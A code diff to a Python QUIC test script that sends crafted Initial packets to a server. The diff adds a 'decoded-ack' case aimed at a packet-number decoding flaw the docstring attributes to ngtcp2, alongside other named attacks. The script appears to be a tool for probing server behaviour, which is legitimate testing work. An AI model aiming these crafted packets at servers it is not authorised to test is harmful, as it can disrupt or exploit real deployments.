@@ -8,8 +8,9 @@ hidden         the same behind a frame of a type that there is none of, which ng
 key-update     it sends a KeyUpdate message of TLS
 no-parameters  a ClientHello without transport parameters
 old-ack        a first packet with number 1, then one with number 0 that acknowledges the answer
+decoded-ack    the same, with one in between whose number, which ngtcp2 forgets for an error, makes 0 look like 256
 
-Prints how the server ends the connection, such as "error_code=10", or "sent" for old-ack.
+Prints how the server ends the connection, such as "error_code=10", or "sent" when nothing has to end.
 """
 
 import asyncio
@@ -101,30 +102,39 @@ def initial(destination, source, number, frames):
     """A client's Initial packet of 1200 bytes."""
     keys = CryptoPair()
     keys.setup_initial(cid=destination, is_client=True, version=VERSION_1)
-    head = bytes([0xC0]) + VERSION_1.to_bytes(4, "big")
+    length = 1 if number < 256 else 2
+    head = bytes([0xC0 | length - 1]) + VERSION_1.to_bytes(4, "big")
     for identity in destination, source:
         head += bytes([len(identity)]) + identity
     head += b"\0"  # no token
-    payload = frames.ljust(1200 - len(head) - 2 - 1 - 16, bytes([PADDING]))
-    head += varint(1 + len(payload) + 16) + bytes([number])
+    payload = frames.ljust(1200 - len(head) - 2 - length - 16, bytes([PADDING]))
+    head += varint(length + len(payload) + 16) + number.to_bytes(length, "big")
     return keys.encrypt_packet(head, payload, number)
 
 
-def old_acknowledgement(url):
+def old_acknowledgement(url, decoded=False):
     where = socket.getaddrinfo(url.hostname, url.port, type=socket.SOCK_DGRAM)[0]
     destination, source = os.urandom(8), os.urandom(8)
+    packets = [
+        # The beginning of a ClientHello of 512 bytes.
+        (1, bytes([CRYPTO, 0, 4, 1, 0, 2, 0])),
+        (0, bytes([ACK, 0, 0, 0, 0, PING])),
+    ]
+    if decoded:
+        packets.insert(1, (256, bytes([0x1E])))
     with socket.socket(where[0], socket.SOCK_DGRAM) as client:
         client.connect(where[4])
-        # The beginning of a ClientHello of 512 bytes.
-        client.send(initial(destination, source, 1, bytes([CRYPTO, 0, 4, 1, 0, 2, 0])))
-        time.sleep(0.2)
-        client.send(initial(destination, source, 0, bytes([ACK, 0, 0, 0, 0, PING])))
-        time.sleep(0.5)
+        for number, frames in packets:
+            client.send(initial(destination, source, number, frames))
+            time.sleep(0.2)
+        time.sleep(0.3)
     print("sent")
 
 
 url, attack = urlsplit(sys.argv[1]), sys.argv[3]
 if attack == "old-ack":
     old_acknowledgement(url)
+elif attack == "decoded-ack":
+    old_acknowledgement(url, decoded=True)
 else:
     asyncio.run(as_client(url, sys.argv[2], attack))
